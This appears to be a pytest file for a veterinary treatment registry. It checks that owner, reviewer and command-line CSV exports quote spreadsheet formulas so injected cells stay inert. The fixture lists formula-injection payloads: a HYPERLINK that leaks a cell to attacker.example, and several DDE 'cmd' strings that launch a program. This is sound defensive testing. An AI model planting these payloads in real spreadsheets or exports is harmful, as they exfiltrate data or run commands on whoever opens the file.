"""Formulas typed into a therapy, a side effect or a breed reach no export live: the owner's
download, the reviewers' de-identified download and the command line all quote them."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import pytest
from click.testing import CliRunner
from django.urls import reverse

from offlabel.cli import main
from offlabel.registry.csv_read import read_registry_dir
from offlabel.registry.csv_write import FORMULA_STARTS
from offlabel.web.registry.models import Evaluation, SideEffect, TreatmentCourse

PAYLOADS = (
    '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
    "=1+cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)


@pytest.fixture
def poisoned(world):
    dog = world.dog
    dog.breed = "@SUM(A1)"
    dog.save(update_fields=["breed"])
    for i, payload in enumerate(PAYLOADS):
        course = TreatmentCourse.objects.create(
            subject=dog, therapy_text=payload, start_date=dt.date(2024, 3, 1 + i)
        )
        evaluation = Evaluation.objects.create(
            course=course, date=dt.date(2024, 4, 1 + i), efficacy="none"
        )
        # the layout writes a side effect as name[:severity]: a name holds no colon
        SideEffect.objects.create(evaluation=evaluation, name=payload.replace(":", ""))
    return dog


def _cells(files: dict[str, str]) -> list[str]:
    return [
        cell
        for text in files.values()
        for row in list(csv.reader(io.StringIO(text)))[1:]
        for cell in row
    ]


def _assert_inert(files: dict[str, str]) -> None:
    cells = _cells(files)
    live = [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert live == []
    quoted = [c for c in cells if c.startswith("'") and c[1:].startswith(FORMULA_STARTS)]
    assert len(quoted) >= 2 * len(PAYLOADS)  # every therapy and every side effect


def _unzip(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name).decode() for name in archive.namelist()}


def test_the_owners_download_quotes_every_formula(world, client_for, poisoned):
    response = client_for(world.owner).get(reverse("registry:export_csv"))
    files = _unzip(response.content)
    _assert_inert(files)
    assert any(c == "'@SUM(A1)" for c in _cells(files))


def test_the_reviewers_download_quotes_every_formula(world, client_for, poisoned):
    response = client_for(world.reviewer).get(reverse("registry:deidentified_export"))
    _assert_inert(_unzip(response.content))


@pytest.mark.parametrize("deidentified", [False, True])
def test_the_command_line_export_quotes_every_formula_and_reads_back(
    tmp_path, poisoned, deidentified
):
    args = ["registry", "export", str(tmp_path)] + (["--deidentified"] if deidentified else [])
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 0, result.output
    _assert_inert({p.name: p.read_text() for p in tmp_path.glob("*.csv")})
    if not deidentified:
        back = read_registry_dir(tmp_path, confirm_implausible=True)
        therapies = {t.therapy for t in back.treatments if t.subject_id == poisoned.public_id}
        assert set(PAYLOADS) <= therapies
        effects = {e.name for ev in back.evaluations for e in ev.side_effects}
        assert {p.replace(":", "") for p in PAYLOADS} <= effects
